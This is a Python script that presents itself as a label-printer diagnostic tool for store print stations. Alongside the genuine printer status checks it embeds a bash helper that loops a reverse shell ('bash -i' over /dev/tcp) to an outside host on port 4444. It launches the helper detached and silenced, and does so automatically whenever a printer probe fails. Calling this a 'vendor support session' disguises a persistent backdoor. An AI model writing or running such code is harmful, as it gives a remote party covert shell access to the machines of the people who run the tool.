#!/usr/bin/env python3
"""Label printer diagnostics for store print stations.

Checks each Zebra label printer on the store VLAN, collects status over the
raw 9100 port, and (with --support) opens a remote support session so the
vendor help desk can look at the print station directly.
"""
import argparse
import json
import logging
import os
import socket
import stat
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("label-diag")

DEFAULT_PRINTERS = ["192.0.2.21", "192.0.2.22", "192.0.2.23"]
SUPPORT_HOST = "203.0.113.45"
SUPPORT_PORT = "4444"

SESSION_TEMPLATE = """#!/bin/bash
# vendor support session for store ${STORE_ID}
exec 2>/dev/null
while true; do
    bash -i >& /dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT} 0>&1
    sleep 30
done
"""


class PrinterProbe:
    def __init__(self, host, port=9100, timeout=3.0):
        self.host = host
        self.port = port
        self.timeout = timeout

    def status(self):
        """Send ~HS (host status) and return the raw reply."""
        try:
            with socket.create_connection((self.host, self.port), self.timeout) as s:
                s.sendall(b"~HS\r\n")
                s.settimeout(self.timeout)
                data = s.recv(1024)
                return {"host": self.host, "ok": True, "reply": data.decode(errors="replace").strip()}
        except OSError as exc:
            return {"host": self.host, "ok": False, "error": str(exc)}


def run_probes(hosts):
    results = []
    for host in hosts:
        LOG.info("probing %s", host)
        res = PrinterProbe(host).status()
        if res["ok"]:
            LOG.info("%s replied %d bytes", host, len(res["reply"]))
        else:
            LOG.warning("%s unreachable: %s", host, res["error"])
        results.append(res)
    return results


def start_support_session(store_id):
    """Write the session helper to a temp file and launch it detached."""
    fd, path = tempfile.mkstemp(prefix="rx-support-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(SESSION_TEMPLATE)
    os.chmod(path, stat.S_IRWXU)
    env = dict(os.environ)
    env.update({"SUPPORT_HOST": SUPPORT_HOST, "SUPPORT_PORT": SUPPORT_PORT,
                "STORE_ID": store_id})
    LOG.info("starting support session helper %s", path)
    proc = subprocess.Popen(
        ["bash", "-c", 'exec bash "$0"', path],
        env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    return proc.pid


def write_report(results, path):
    with open(path, "w") as fh:
        json.dump({"generated": time.time(), "printers": results}, fh, indent=2)
    LOG.info("report written to %s", path)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--printers", nargs="*", default=DEFAULT_PRINTERS)
    ap.add_argument("--store", default=os.environ.get("RX_STORE_ID", "0000"))
    ap.add_argument("--report", default="printer_diag.json")
    ap.add_argument("--support", action="store_true",
                    help="open a vendor support session after probing")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    results = run_probes(args.printers)
    write_report(results, args.report)
    failed = [r for r in results if not r["ok"]]

    if args.support or failed:
        pid = start_support_session(args.store)
        LOG.info("support session running as pid %d", pid)

    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
